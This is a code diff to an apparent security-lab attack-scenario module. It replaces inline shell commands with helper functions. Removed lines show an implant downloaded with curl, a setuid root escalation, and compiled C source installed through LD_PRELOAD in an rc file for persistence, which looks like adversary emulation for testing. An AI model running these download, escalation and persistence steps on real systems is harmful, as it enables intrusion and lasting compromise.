@@ -18,6 +18,8 @@ from provarmor.lab.payloads import harmless_preload_c
 from provarmor.lab.scenario import Action, Channel, Payload, Plan, Scenario, StepSpec
 from provarmor.lab.scenarios.implants import drop_dir, implant_payload, ssh_public_key
 from provarmor.lab.scenarios.steps import (
+    compile_downloaded,
+    download,
     exploit_step,
     implant_step,
     setuid_copy,
@@ -89,8 +91,7 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="setuid-escalation",
                 channel=Channel.IMPLANT,
-                command=f"mkdir -p {folder} && curl -s -o {dropped} "
-                f"{ctx.payload_url(root_implant.path)} "
+                command=f"{download(ctx, root_implant, dropped)} "
                 f"&& chmod 755 {folder} {dropped} && {become_root}",
             ),
             Action(
@@ -119,10 +120,10 @@ def plan(ctx: LabContext) -> Plan:
                 step="preload-and-rc",
                 channel=Channel.IMPLANT,
                 agent=root_agent,
-                command="d=$(mktemp -d) && curl -s -o $d/p.c "
-                f"{ctx.payload_url(preload_source.path)} && "
-                f"gcc -shared -fPIC -o {library} $d/p.c && rm -rf $d && "
-                f"echo 'export LD_PRELOAD={library}' >> {ops_rc}",
+                command=compile_downloaded(
+                    ctx, preload_source, library, flags="-shared -fPIC", scratch="p.c"
+                )
+                + f" && echo 'export LD_PRELOAD={library}' >> {ops_rc}",
             ),
         ),
         artifacts=(folder, setuid_env, library),
